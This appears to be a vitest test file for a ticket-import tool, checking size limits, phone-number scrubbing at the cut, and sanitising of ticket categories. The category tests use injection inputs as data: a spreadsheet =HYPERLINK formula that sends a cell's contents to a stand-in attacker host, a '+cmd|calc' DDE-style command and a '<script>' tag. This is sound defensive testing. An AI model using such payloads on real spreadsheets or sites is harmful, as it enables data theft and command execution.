import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MAX_IMPORTED_TEXT, runImport } from '../../functions/ticket-import/run-import.js';
import { tabularMappingSchema } from '../../functions/ticket-import/sources/tabular.js';
import { temporaryDirectoriesOfThisFile } from '../support/import-folders.js';

/**
 * What an export cannot make a ticket document carry: text beyond MAX_IMPORTED_TEXT (a 9 MB
 * description), and a category outside the knowledge form's character set (an exported
 * `=HYPERLINK(…)` that would reach the insights page and its CLI tables as a formula).
 */

const temporaryDirectory = temporaryDirectoriesOfThisFile('import-bounds-test-');

const mapping = tabularMappingSchema.parse({
  number: 'id',
  subject: 'title',
  inquiry: 'description',
  resolution: 'fix',
  category: 'category',
});

/** Imports JSON Lines rows into a ticket folder of its own; the report and the written files. */
async function importRows(rows: readonly Record<string, string>[]) {
  const directory = temporaryDirectory();
  const file = join(directory, 'tickets.jsonl');
  writeFileSync(file, rows.map((row) => JSON.stringify(row)).join('\n'));
  const out = join(directory, 'tickets');
  const report = await runImport({ source: 'jsonl', outDir: out, paths: [file], mapping });
  const files = Object.fromEntries(
    readdirSync(out)
      .filter((name) => !name.startsWith('.'))
      .map((name) => [name, readFileSync(join(out, name), 'utf8')]),
  );
  return { report, files };
}

const categoryOf = (files: Record<string, string>, id: string) =>
  JSON.parse(files[`${id}.md.metadata.json`] ?? '{}').metadataAttributes.category as string;

describe('the size of a ticket document', () => {
  it('cuts a 9 MB description and an overlong resolution, marks the cut and names the ticket', async () => {
    const line = 'ERROR 0x80070005 access denied at C:\\Windows\\System32\\drivers\n';
    const huge = line.repeat(Math.ceil((9 * 1024 * 1024) / line.length));
    const steps = Array.from(
      { length: 30 },
      (_, index) => `Step ${index + 1}: ${'x '.repeat(600)}`,
    );
    const { report, files } = await importRows([
      { id: 'BIG-1', title: 'Log attached', description: huge, fix: 'Rebooted.', category: 'OS' },
      {
        id: 'BIG-2',
        title: 'Long fix',
        description: 'Slow PC',
        fix: steps.join('\n\n'),
        category: 'OS',
      },
      {
        id: 'OKAY-3',
        title: 'Short',
        description: 'VPN down',
        fix: 'Restarted VPN.',
        category: 'VPN',
      },
    ]);
    expect(report.cutToSize).toEqual({ count: 2, ids: ['BIG-1', 'BIG-2'] });
    const big = files['BIG-1.md'] ?? '';
    expect(big.length).toBeLessThan(MAX_IMPORTED_TEXT.inquiry + 2_000);
    const inquiry = big.split('## Inquiry\n\n')[1]?.split('\n\n## ')[0] ?? '';
    expect(inquiry.length).toBeLessThanOrEqual(MAX_IMPORTED_TEXT.inquiry);
    expect(inquiry.endsWith(' …')).toBe(true);
    // Cut at a line end, not inside one.
    expect(inquiry.slice(0, -2).endsWith('drivers')).toBe(true);
    const long = files['BIG-2.md'] ?? '';
    const resolution = long.split('## Resolution\n\n')[1]?.split('\n\n## ')[0] ?? '';
    expect(resolution.length).toBeLessThan(MAX_IMPORTED_TEXT.resolution + 200);
    expect(resolution).toContain('1. Step 1:');
    expect(resolution).not.toContain('Step 30:');
    expect(files['OKAY-3.md']).toContain('Restarted VPN.');
  });

  it('keeps a phone number the scrub must see whole, however the cut falls', async () => {
    // The number straddles the inquiry's limit: the scrub sees it whole (it is cut after).
    const before = 'a'.repeat(MAX_IMPORTED_TEXT.inquiry - 6);
    const { report, files } = await importRows([
      {
        id: 'EDGE-1',
        title: 'Call me',
        description: `${before} 03-1234-5678 まで`,
        fix: 'Called back.',
        category: 'Phone',
      },
    ]);
    expect(report.cutToSize.count).toBe(1);
    expect(report.scrubbed.phone).toBe(1);
    expect(files['EDGE-1.md']).not.toMatch(/03-?1234|1234-?5678/);
  });
});

describe('a ticket’s category', () => {
  it('keeps to the safe character set: a formula loses its lead, markup its brackets', async () => {
    const { report, files } = await importRows([
      {
        id: 'CAT-1',
        title: 't',
        description: 'd',
        fix: 'f',
        category: '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
      },
      { id: 'CAT-2', title: 't', description: 'd', fix: 'f', category: 'Software > Office' },
      { id: 'CAT-3', title: 't', description: 'd', fix: 'f', category: '<script>' },
      { id: 'CAT-4', title: 't', description: 'd', fix: 'f', category: '人事・労務' },
      { id: 'CAT-5', title: 't', description: 'd', fix: 'f', category: '@@@' },
      { id: 'CAT-6', title: 't', description: 'd', fix: 'f', category: '+cmd|calc' },
    ]);
    const categories = ['CAT-1', 'CAT-2', 'CAT-3', 'CAT-4', 'CAT-5', 'CAT-6'].map((id) =>
      categoryOf(files, id),
    );
    expect(categories).toEqual([
      // Cut to the 40 characters a category may have.
      'HYPERLINK( https://evil.example/ q &A1 C',
      'Software Office',
      'script',
      '人事・労務',
      'uncategorized',
      'cmd calc',
    ]);
    for (const category of categories) expect(category).not.toMatch(/^[=+\-@]|[<>"|]/);
    expect(report.categoriesChanged).toBe(5);
    expect(files['CAT-1.md']).toContain('- Category: HYPERLINK(');
  });
});
